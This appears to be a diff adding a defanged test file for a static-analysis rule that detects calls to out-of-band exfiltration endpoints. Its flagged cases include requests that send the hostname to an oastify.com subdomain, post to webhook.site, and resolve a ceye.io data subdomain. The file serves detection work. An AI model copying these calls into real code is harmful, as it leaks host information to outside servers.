@@ -1,0 +1,18 @@
+# Test for oob-exfil-endpoint (defanged: subdomains are made up, nothing is sent).
+import socket
+
+import requests
+
+# ruleid: oob-exfil-endpoint
+requests.get("http://abc123def456.oastify.com", params={"h": socket.gethostname()})
+# ruleid: oob-exfil-endpoint
+requests.post("https://webhook.site/0b1957da-0000-0000-0000-000000000000/", data={"k": "v"})
+# ruleid: oob-exfil-endpoint
+socket.gethostbyname("data.x1y2z3.ceye.io")
+
+# ok: oob-exfil-endpoint
+requests.get("https://example.invalid/api")
+# ok: oob-exfil-endpoint
+note = "See the interactsh documentation for details"
+# ok: oob-exfil-endpoint
+host = "pipedream.example.invalid"
